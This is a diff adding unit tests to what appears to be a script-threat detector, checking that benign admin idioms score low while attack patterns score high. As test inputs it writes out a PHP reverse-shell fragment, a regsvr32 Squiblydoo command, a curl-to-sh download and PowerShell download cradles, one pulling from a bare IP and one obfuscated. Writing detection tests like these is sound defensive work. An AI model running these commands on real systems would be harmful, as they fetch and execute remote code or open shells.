@@ -126,6 +126,45 @@ describe('hard benign admin scripts stay at low or below', () => {
   });
 });
 
+describe('dual-use capabilities of real software stay below an attack (issue 30)', () => {
+  it('a PHP mail client opening a socket and running a program is not a reverse shell', () => {
+    const smtp = [
+      '$this->smtp_conn = fsockopen($host, $port, $errno, $errstr, $timeout);',
+      'if (!is_resource($this->smtp_conn)) { return false; }',
+      '$sock = $this->smtp_conn;',
+      '$mail = popen($this->Sendmail . " -oi -t", "w");',
+    ].join('\n');
+    expect(technique(smtp, 'revshell.php')).toBeUndefined();
+  });
+  it('a PHP socket wired to a shell through a variable command is still a reverse shell', () => {
+    const shell = "$shell = 'uname -a; id; /bin/sh -i';\n$sock = fsockopen($ip, $port);\n$process = proc_open($shell, $spec, $pipes);";
+    expect(technique(shell, 'revshell.php')?.severity).toBe('critical');
+  });
+  it('re-registering the scripting runtime is not Squiblydoo; a scriptlet handed to scrobj is', () => {
+    expect(technique('regsvr32 /s scrobj.dll', 'lolbin.regsvr32')).toBeUndefined();
+    expect(technique('regsvr32 /s /u /i:C:\\Users\\Public\\x.sct scrobj.dll', 'lolbin.regsvr32')?.severity).toBe('high');
+  });
+  it("a vendor's install script from raw.githubusercontent.com piped to bash is the low installer idiom", () => {
+    const text = '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"';
+    expect(technique(text, 'cradle.shell_pipe_shady')).toBeUndefined();
+    expect(worst(text)).toBe('low');
+    expect(technique('curl -fsSL https://raw.githubusercontent.com/x/y/main/a.exe -o a.exe | sh', 'cradle.shell_pipe_shady')?.severity).toBe('high');
+  });
+  it('a PowerShell cradle from a named HTTPS host is medium with the reason named; from a bare IP or obfuscated it stays high', () => {
+    const vendor = technique('iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"', 'cradle.powershell');
+    expect(vendor?.severity).toBe('medium');
+    expect(vendor?.description).toMatch(/named HTTPS host/);
+    expect(worst('iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI"')).toBe('medium');
+    expect(technique('iex (iwr http://203.0.113.9/a.ps1)', 'cradle.powershell')?.severity).toBe('high');
+    expect(technique("I`E`X (New-Object Net.WebClient).('Down'+'loadStr'+'ing')('https://cdn.example.com/x')", 'cradle.powershell')?.severity).toBe('high');
+  });
+  it('WScript.Shell running a program is a named low capability', () => {
+    const f = analyzeScriptText('Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True').findings.find((x) => x.id === 'script.wsh.shell_run');
+    expect(f?.severity).toBe('low');
+    expect(f?.description).toMatch(/admin scripts use too/);
+  });
+});
+
 describe('normalisation', () => {
   it('keeps every view linear-sized and lower-cased', () => {
     const views = scriptViews("W`rite-Host ('a'+'b')");
